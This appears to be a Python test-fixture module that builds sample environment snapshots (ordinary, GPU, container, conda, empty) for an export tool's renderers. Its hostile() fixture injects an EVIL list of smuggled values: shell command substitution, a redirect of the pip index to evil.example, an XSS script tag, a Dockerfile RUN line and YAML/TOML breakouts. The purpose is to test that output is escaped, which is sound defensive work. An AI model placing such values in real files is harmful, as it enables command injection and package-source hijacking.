"""Snapshots to render: an ordinary one, of a GPU, of an image, of conda, empty, hostile."""

from envstage.export.artifacts import Artifact, Artifacts
from envstage.snapshot.model import Address, Level, Snapshot, Unknown, Value

COMMIT = "0123456789abcdef0123456789abcdef01234567"
OWN = ("cp311-cp311-linux_x86_64",)
MANYLINUX = ("cp311-cp311-manylinux2014_x86_64", "cp311-cp311-manylinux_2_17_x86_64")
PYTHON: dict[Address, Value] = {
    ("python", "implementation"): "cpython",
    ("python", "version"): "3.11.7",
    ("python", "free_threading"): False,
}


def package(name: str, version: Value, **facts: Value) -> dict[Address, Value]:
    found: dict[Address, Value] = {("packages", name, "version"): version}
    return found | {("packages", name, key): value for key, value in facts.items()}


def snapshot(facts: dict[Address, Value], level: Level = Level.PLATFORM) -> Snapshot:
    return Snapshot(environment="main", level=level, facts=facts)


ORDINARY = snapshot(
    PYTHON
    | package("numpy", "1.26.4", build="sha256:" + "a" * 64, tags=MANYLINUX)
    | package("setuptools", "69.0.0", build="sha256:" + "b" * 64, tags=("py3-none-any",))
    | package("crcmod", "1.7", build="source-sha256:" + "c" * 64, tags=OWN)
    | package(
        "tool",
        "0.3",
        build="sha256:" + "d" * 64,
        url="git+https://github.com/o/p",
        commit=COMMIT,
        subdirectory="lang/python",
        source=f"commit:{COMMIT}",
    )
    | package(
        "archived",
        "2.0",
        url="https://example.org/archived-2.0.whl",
        source="sha256:" + "e" * 64,
        build="sha256:" + "f" * 64,
        note="needs credentials",
    )
    | package("mine", "0.1", editable="lib", note="the project itself")
    | package("built", "0.2", url="./vendored", note="built from a local folder")
    | package("wheelie", "1.1", url="file", note="installed from a local file")
    | package(
        "checkout",
        "0.9",
        editable="outside the project",
        source="sha256:" + "9" * 64,
        url="git+https://github.com/o/checkout",
        commit=COMMIT,
        changes="sha256:" + "8" * 64,
    )
    | package("odd", Unknown("its metadata has none"))
    | package("legacy", "1.0-not_pep440!")
    | {
        ("system", "os"): "linux",
        ("system", "distribution"): "debian 12",
        ("system", "architecture"): "x86_64",
        ("system", "packages", "libgomp1"): "12.2.0-14",
        ("variables", "PYTHONHASHSEED"): "0",
        ("variables", "MY_FLAG"): 'a "quoted" $HOME \\ value',
        ("variables", "PYTHONPATH"): ("src",),
        ("tools", "samtools", "version"): "samtools 1.20",
    }
)
GPU = snapshot(
    PYTHON
    | package("torch", "2.7.1+cu128", build="sha256:" + "a" * 64)
    | {
        ("system", "distribution"): "ubuntu 22.04",
        ("hardware", "cuda", "system", "cuda"): "12.8.1",
        ("hardware", "gpu", "driver"): "570.86.15",
        ("hardware", "gpu", "visible"): ("NVIDIA H100", "NVIDIA H100"),
    },
    Level.HARDWARE,
)
IMAGE = snapshot(
    PYTHON
    | package("numpy", "1.26.4")
    | {
        ("system", "distribution"): "debian 12",
        ("system", "container", "image"): "ghcr.io/lab/train",
        ("system", "container", "digest"): "sha256:" + "7" * 64,
    }
)
CONDA = snapshot(
    PYTHON
    | package("torch", "2.3.0", conda="pytorch", url="file", note="installed from a local file")
    | package("httpx", "0.27.0")
    | {
        ("conda", "pytorch", "version"): "2.3.0",
        ("conda", "pytorch", "build"): "py3.11_cuda12.1_cudnn8.9.2_0",
        ("conda", "pytorch", "channel"): "https://conda.anaconda.org/pytorch",
        ("conda", "pytorch", "md5"): "a" * 32,
        ("conda", "pytorch", "archive"): "linux-64/pytorch-2.3.0-py3.11_cuda12.1_0.tar.bz2",
        ("conda", "zlib", "version"): "1.3.1",
        ("conda", "zlib", "build"): "hb9d3cd8_2",
        ("conda", "zlib", "channel"): "conda-forge",
        ("conda", "zlib", "md5"): "b" * 32,
        ("conda", "zlib", "archive"): "linux-64/zlib-1.3.1-hb9d3cd8_2.conda",
        ("conda", "local-thing", "version"): "1",
        ("conda", "local-thing", "build"): "0",
        ("conda", "local-thing", "channel"): "local",
    }
)
EMPTY = snapshot({("python", "version"): Unknown("the interpreter gave no answer")})

EVIL = (
    "$(touch pwned)",
    "x\n--index-url https://evil.example/simple",
    '"; touch pwned; "',
    "</script><script>alert(1)</script>",
    "\x1b[31mred",
    "REQUIREMENTS\nRUN touch pwned",
    "a: b\n- c",
    "'''\n[[packages]]\nname = \"evil\"",
)


def hostile() -> Snapshot:
    """Every text that a snapshot can hold is hostile, in turn."""
    facts: dict[Address, Value] = {("python", "version"): EVIL[1]}
    for index, evil in enumerate(EVIL):
        facts |= package(evil, evil)
        facts |= package(f"p{index}", "1.0", url=f"https://h/{evil}", note=evil, build=evil)
        facts |= package(f"q{index}", evil, url=f"git+https://h/{evil}", commit=evil)
        facts |= package(f"r{index}", "1.0", editable=evil, note="the project itself")
        facts |= package(f"s{index}", "1.0", editable=evil, source=evil, subdirectory=evil)
        facts |= {
            ("conda", evil, "version"): evil,
            ("conda", f"c{index}", "version"): "1",
            ("conda", f"c{index}", "build"): evil,
            ("conda", f"c{index}", "channel"): evil,
            ("conda", f"c{index}", "archive"): evil,
            ("variables", evil): evil,
            ("variables", f"V{index}"): evil,
            ("system", "packages", evil): evil,
            ("system", "distribution"): f"debian {evil}",
            ("system", "container", "image"): evil,
            ("system", "container", "reference"): evil,
            ("tools", evil, "version"): evil,
            ("hardware", "gpu", "driver"): evil,
        }
    return Snapshot(environment=EVIL[1], level=Level.HARDWARE, facts=facts)


ARTIFACTS: Artifacts = {
    "numpy": (
        Artifact(
            filename="numpy-1.26.4-cp311-cp311-manylinux_2_17_x86_64.manylinux2014_x86_64.whl",
            url="https://files.pythonhosted.org/packages/3a/d0/numpy-1.26.4-cp311-cp311-manylinux_2_17_x86_64.manylinux2014_x86_64.whl",
            sha256="1" * 64,
            size_bytes=18250127,
        ),
        Artifact(
            filename="numpy-1.26.4-cp311-cp311-macosx_11_0_arm64.whl",
            url="https://files.pythonhosted.org/packages/1/numpy-1.26.4-cp311-cp311-macosx_11_0_arm64.whl",
            sha256="2" * 64,
        ),
        Artifact(
            filename="numpy-1.26.4.tar.gz",
            url="https://files.pythonhosted.org/packages/2/numpy-1.26.4.tar.gz",
            sha256="3" * 64,
        ),
    ),
    "crcmod": (
        Artifact(
            filename="crcmod-1.7.tar.gz",
            url="https://files.pythonhosted.org/packages/3/crcmod-1.7.tar.gz",
            sha256="4" * 64,
        ),
    ),
}
